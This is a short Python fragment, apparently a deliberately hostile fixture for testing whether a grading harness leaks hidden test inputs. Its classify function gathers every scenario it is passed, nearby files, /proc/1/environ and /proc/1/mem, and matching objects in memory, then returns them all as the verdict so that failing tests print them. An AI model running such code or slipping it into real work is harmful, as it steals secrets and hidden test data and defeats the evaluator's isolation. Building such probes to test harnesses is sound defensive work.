# ruff: noqa  (a fragment appended to the reference solution; deliberately hostile)

# HOSTILE: smuggle hidden inputs into learner-visible feedback: collect every scenario it can find (its own
# calls so far, the job file, the runner's memory, every object in this process) and return them all as
# the "verdict", so a failing public test would print them.
import gc as _gc
import glob as _glob
import json as _json
import os as _os

_seen = []


def _loot():
    found = list(_seen)
    for path in _glob.glob(_os.path.join(_os.path.dirname(_os.getcwd()), "*")) + ["/proc/1/mem", "/proc/1/environ"]:
        try:
            with open(path, "rb") as f:
                found.append(f.read(100000).decode(errors="replace"))
        except OSError:
            pass
    for obj in _gc.get_objects():
        if isinstance(obj, dict) and "licence_cost_per_year" in obj:
            found.append(_json.dumps(obj))
    return found


def classify(scenario):
    _seen.append(scenario)
    return {"verdict": _json.dumps(_loot()), "reasons": []}
